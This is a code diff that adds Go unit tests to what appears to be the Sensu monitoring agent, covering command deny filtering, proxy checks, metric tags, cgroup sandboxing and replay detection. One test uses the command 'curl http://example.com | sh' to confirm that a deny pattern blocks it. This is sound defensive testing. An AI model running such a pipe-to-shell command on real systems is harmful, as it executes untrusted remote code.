@@ -263,6 +263,74 @@ func TestExecuteCheck(t *testing.T) {
 	assert.Equal(int64(987654321), metric1.Timestamp)
 }
 
+func TestExecuteCheckCommandFilter(t *testing.T) {
+	checkConfig := corev2.FixtureCheckConfig("check")
+	checkConfig.Command = "curl http://example.com | sh"
+	request := &corev2.CheckRequest{Config: checkConfig, Issued: time.Now().Unix()}
+
+	config, cleanup := FixtureConfig()
+	defer cleanup()
+	config.CommandDenyPatterns = []string{"* | *"}
+	agent, err := NewAgent(config)
+	require.NoError(t, err)
+	ch := make(chan *transport.Message, 1)
+	agent.sendq = ch
+	ex := &mockexecutor.MockExecutor{}
+	var executed bool
+	ex.SetRequestFunc(func(context.Context, command.ExecutionRequest) {
+		executed = true
+	})
+	agent.executor = ex
+
+	agent.executeCheck(context.TODO(), request, agent.getAgentEntity())
+	msg := <-ch
+
+	event := &corev2.Event{}
+	require.NoError(t, json.Unmarshal(msg.Payload, event))
+	assert.Equal(t, uint32(3), event.Check.Status)
+	assert.Contains(t, event.Check.Output, commandFilterOnDenyOutput)
+	assert.False(t, executed)
+}
+
+func TestExecuteProxyCheck(t *testing.T) {
+	checkConfig := corev2.FixtureCheckConfig("check")
+	checkConfig.Command = "check-ping {{ .name }}"
+	checkConfig.Stdin = true
+	checkConfig.ProxyEntityName = "router"
+	proxyEntity := corev2.FixtureEntity("router")
+	proxyEntity.EntityClass = corev2.EntityProxyClass
+	request := &corev2.CheckRequest{Config: checkConfig, Issued: time.Now().Unix(), ProxyEntity: proxyEntity}
+
+	config, cleanup := FixtureConfig()
+	defer cleanup()
+	agent, err := NewAgent(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := make(chan *transport.Message, 1)
+	agent.sendq = ch
+	ex := &mockexecutor.MockExecutor{}
+	agent.executor = ex
+	ex.Return(command.FixtureExecutionResponse(0, "ok"), nil)
+
+	var execution command.ExecutionRequest
+	ex.SetRequestFunc(func(ctx context.Context, req command.ExecutionRequest) {
+		execution = req
+	})
+
+	agent.executeCheck(context.TODO(), request, request.ProxyEntity)
+	<-ch
+
+	// The tokens of the command are substituted with the proxy entity, which
+	// is passed to the command in place of the agent entity
+	assert.Equal(t, "check-ping router", execution.Command)
+	var input corev2.Event
+	require.NoError(t, json.Unmarshal([]byte(execution.Input), &input))
+	require.NotNil(t, input.Entity)
+	assert.Equal(t, "router", input.Entity.Name)
+	assert.Equal(t, corev2.EntityProxyClass, input.Entity.EntityClass)
+}
+
 func TestExecuteCheckDiscardOutput(t *testing.T) {
 	checkConfig := corev2.FixtureCheckConfig("check")
 	request := &corev2.CheckRequest{Config: checkConfig, Issued: time.Now().Unix()}
@@ -402,6 +470,44 @@ func TestPrepareCheck(t *testing.T) {
 	assert.Equal(t, check.Command, "echo bar")
 }
 
+func TestPrepareCheckOutputMetricTags(t *testing.T) {
+	entity := corev2.FixtureEntity("web01")
+	entity.Labels = map[string]string{"region": "us-west-2"}
+	check := corev2.FixtureCheckConfig("check")
+	check.OutputMetricTags = []string{
+		"region={{ .labels.region }}",
+		"host={{ .name }}",
+		"check={{ .check.name }}",
+		"team=ops",
+	}
+	require.NoError(t, prepareCheck(check, entity))
+	assert.Equal(t, []string{"region=us-west-2", "host=web01", "check=check", "team=ops"}, check.OutputMetricTags)
+
+	check.OutputMetricTags = []string{"zone={{ .labels.zone }}"}
+	assert.Error(t, prepareCheck(check, entity))
+}
+
+func TestAddOutputMetricTags(t *testing.T) {
+	event := corev2.FixtureEvent("web01", "check")
+	event.Check.OutputMetricTags = []string{"region=us-west-2", "invalid", "host=web01"}
+	event.Metrics = &corev2.Metrics{
+		Points: []*corev2.MetricPoint{
+			{Name: "cpu.idle", Value: 80, Tags: []*corev2.MetricTag{{Name: "host", Value: "localhost"}}},
+			{Name: "cpu.user", Value: 20},
+		},
+	}
+
+	addOutputMetricTags(event)
+	assert.Equal(t, []*corev2.MetricTag{
+		{Name: "host", Value: "web01"},
+		{Name: "region", Value: "us-west-2"},
+	}, event.Metrics.Points[0].Tags)
+	assert.Equal(t, []*corev2.MetricTag{
+		{Name: "region", Value: "us-west-2"},
+		{Name: "host", Value: "web01"},
+	}, event.Metrics.Points[1].Tags)
+}
+
 func TestExtractMetrics(t *testing.T) {
 	assert := assert.New(t)
 
@@ -516,3 +622,47 @@ func TestFailOnAssetCheckWithDisabledAssets(t *testing.T) {
 		t.Errorf("bad status: got %d, want %d", got, want)
 	}
 }
+
+func TestCheckSandbox(t *testing.T) {
+	cfg := &Config{CgroupParent: "sensu"}
+	check := corev2.FixtureCheckConfig("check")
+	assert.Nil(t, checkSandbox(cfg, check))
+
+	cfg.CheckCgroupCPULimit = 1000
+	cfg.CheckCgroupMemoryLimit = 1 << 30
+	check.CgroupMemoryLimit = 1 << 20
+	assert.Equal(t, &command.Sandbox{
+		CgroupParent:      "sensu",
+		CgroupCPULimit:    1000,
+		CgroupMemoryLimit: 1 << 20,
+	}, checkSandbox(cfg, check))
+}
+
+func TestDuplicateReplay(t *testing.T) {
+	config, cleanup := FixtureConfig()
+	defer cleanup()
+	agent, err := NewAgent(config)
+	require.NoError(t, err)
+
+	request := corev2.FixtureCheckRequest("check")
+	request.Issued = 10
+	assert.False(t, agent.duplicateReplay(request))
+
+	replayed := corev2.FixtureCheckRequest("check")
+	replayed.Config.Annotations = map[string]string{corev2.ReplayedAnnotation: "true"}
+	replayed.Issued = 10
+	assert.True(t, agent.duplicateReplay(replayed), "replay of a request already received")
+
+	// Replays of newer requests, and live requests, are executed
+	replayed.Issued = 20
+	assert.False(t, agent.duplicateReplay(replayed))
+	request.Issued = 30
+	assert.False(t, agent.duplicateReplay(request))
+
+	// Cancelled checks are forgotten
+	payload, err := json.Marshal(corev2.CheckCancellation{Name: "check", Namespace: "default"})
+	require.NoError(t, err)
+	require.NoError(t, agent.handleCheckCancellation(context.TODO(), payload))
+	replayed.Issued = 10
+	assert.False(t, agent.duplicateReplay(replayed))
+}